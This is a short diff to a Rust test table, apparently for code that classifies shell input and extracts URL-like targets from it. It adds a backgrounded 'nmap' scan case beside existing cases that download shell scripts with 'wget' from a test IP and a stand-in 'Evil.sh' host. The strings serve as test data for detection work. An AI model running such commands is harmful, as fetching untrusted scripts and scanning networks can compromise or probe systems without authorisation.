@@ -478,6 +478,7 @@ mod tests {
                 // without a scheme
                 (Other, "192.0.2.1/a 192.0.2.1:80/b", &["192.0.2.1/a", "192.0.2.1:80/b"]),
                 (Other, "192.0.2.1:80 100.20.30.0/24 192.0.2.1/32.", &[]),
+                (Command, "nmap 192.0.2.1/24&", &[]),
                 (Other, "./run.sh/x 21/11/2026 1.2.3/x Chrome/1.2.3.4/x", &[]),
                 (Command, "wget 192.0.2.1/x.sh", &["192.0.2.1/x.sh"]),
                 (Command, "wget -q Evil.sh/X -O x.sh", &["evil.sh/X"]),
